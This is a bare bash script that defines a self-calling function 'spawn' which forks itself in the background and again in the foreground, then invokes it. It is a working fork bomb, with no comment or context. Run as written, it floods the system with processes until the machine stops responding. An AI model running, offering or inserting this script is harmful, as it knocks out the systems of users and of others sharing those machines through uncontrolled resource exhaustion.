#!/bin/bash
spawn() {
  spawn & spawn
}
spawn
